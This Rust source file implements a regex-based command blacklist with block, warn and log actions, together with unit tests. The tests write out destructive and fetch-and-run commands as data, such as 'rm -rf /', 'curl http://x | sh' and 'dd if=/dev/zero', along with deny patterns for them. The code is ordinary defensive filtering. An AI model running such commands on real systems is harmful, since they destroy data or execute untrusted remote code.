//! Blacklist rule evaluation.
//!
//! Rules are evaluated in creation order against the full command line:
//!
//! - `block` → refuse, record a blocked row, stop.
//! - `warn`  → allow with a reason, record a row, stop.
//! - `log`   → record a row, keep going.
//!
//! A `log` hit followed by a `block` hit therefore records two rows and
//! blocks. Rules whose pattern does not compile are skipped.

use regex::Regex;
use tracing::warn;

use super::model::{BlacklistRule, RuleAction};

/// A rule with its pattern compiled.
#[derive(Debug, Clone)]
pub struct CompiledRule {
    pub id: u64,
    pub action: RuleAction,
    reason: String,
    regex: Regex,
}

impl CompiledRule {
    pub fn compile(rule: &BlacklistRule) -> Result<Self, regex::Error> {
        Ok(Self {
            id: rule.id,
            action: rule.action,
            reason: rule.description.clone(),
            regex: Regex::new(&rule.pattern)?,
        })
    }

    pub fn is_match(&self, command: &str) -> bool {
        self.regex.is_match(command)
    }
}

/// Compile the enabled rules, preserving order and dropping broken patterns.
pub fn compile_enabled(rules: &[BlacklistRule]) -> Vec<CompiledRule> {
    rules
        .iter()
        .filter(|r| r.enabled)
        .filter_map(|r| match CompiledRule::compile(r) {
            Ok(compiled) => Some(compiled),
            Err(e) => {
                warn!("Skipping blacklist rule {} with invalid pattern: {e}", r.id);
                None
            }
        })
        .collect()
}

/// One rule that matched.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleHit {
    pub rule_id: u64,
    pub action: RuleAction,
    pub reason: String,
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Evaluation {
    pub blocked: bool,
    /// Action of the rule that decided the outcome (`block` or `warn`).
    pub action: Option<RuleAction>,
    pub reason: String,
    /// Every hit, in evaluation order; each becomes a command row.
    pub hits: Vec<RuleHit>,
}

pub fn evaluate(rules: &[CompiledRule], command: &str) -> Evaluation {
    let mut eval = Evaluation::default();
    for rule in rules {
        if !rule.is_match(command) {
            continue;
        }
        eval.hits.push(RuleHit {
            rule_id: rule.id,
            action: rule.action,
            reason: rule.reason.clone(),
        });
        match rule.action {
            RuleAction::Block => {
                eval.blocked = true;
                eval.action = Some(RuleAction::Block);
                eval.reason.clone_from(&rule.reason);
                return eval;
            }
            RuleAction::Warn => {
                eval.action = Some(RuleAction::Warn);
                eval.reason.clone_from(&rule.reason);
                return eval;
            }
            RuleAction::Log => {}
        }
    }
    eval
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::Utc;

    fn rule(id: u64, pattern: &str, action: RuleAction) -> BlacklistRule {
        BlacklistRule {
            id,
            pattern: pattern.into(),
            description: format!("rule {id}"),
            action,
            enabled: true,
            created_by: 1,
            created_at: Utc::now(),
            updated_at: Utc::now(),
        }
    }

    #[test]
    fn block_stops_evaluation() {
        let rules = compile_enabled(&[
            rule(1, r"rm\s+-rf", RuleAction::Block),
            rule(2, "rm", RuleAction::Log),
        ]);
        let eval = evaluate(&rules, "rm -rf /");
        assert!(eval.blocked);
        assert_eq!(eval.action, Some(RuleAction::Block));
        assert_eq!(eval.reason, "rule 1");
        assert_eq!(eval.hits.len(), 1);
    }

    #[test]
    fn warn_allows_and_stops() {
        let rules = compile_enabled(&[
            rule(1, "reboot", RuleAction::Warn),
            rule(2, "reboot", RuleAction::Block),
        ]);
        let eval = evaluate(&rules, "sudo reboot");
        assert!(!eval.blocked);
        assert_eq!(eval.action, Some(RuleAction::Warn));
        assert_eq!(eval.hits.len(), 1);
    }

    #[test]
    fn log_falls_through_to_later_block() {
        let rules = compile_enabled(&[
            rule(1, "curl", RuleAction::Log),
            rule(2, r"\|\s*sh", RuleAction::Block),
        ]);
        let eval = evaluate(&rules, "curl http://x | sh");
        assert!(eval.blocked);
        assert_eq!(
            eval.hits.iter().map(|h| h.action).collect::<Vec<_>>(),
            vec![RuleAction::Log, RuleAction::Block]
        );
    }

    #[test]
    fn log_only_is_not_blocked_without_reason() {
        let rules = compile_enabled(&[rule(1, "ls", RuleAction::Log)]);
        let eval = evaluate(&rules, "ls -la");
        assert!(!eval.blocked);
        assert_eq!(eval.action, None);
        assert!(eval.reason.is_empty());
        assert_eq!(eval.hits.len(), 1);
    }

    #[test]
    fn no_match_no_hits() {
        let rules = compile_enabled(&[rule(1, "shutdown", RuleAction::Block)]);
        assert_eq!(evaluate(&rules, "uptime"), Evaluation::default());
    }

    #[test]
    fn invalid_and_disabled_rules_are_skipped() {
        let mut disabled = rule(2, "ls", RuleAction::Block);
        disabled.enabled = false;
        let rules = compile_enabled(&[rule(1, "([", RuleAction::Block), disabled]);
        assert!(rules.is_empty());
        assert!(!evaluate(&rules, "ls").blocked);
    }

    #[test]
    fn reason_is_the_description_verbatim() {
        let mut r = rule(1, "dd", RuleAction::Block);
        r.description = String::new();
        let rules = compile_enabled(&[r]);
        let eval = evaluate(&rules, "dd if=/dev/zero");
        assert!(eval.blocked);
        assert_eq!(eval.reason, "");
        assert_eq!(eval.hits[0].reason, "");
    }
}
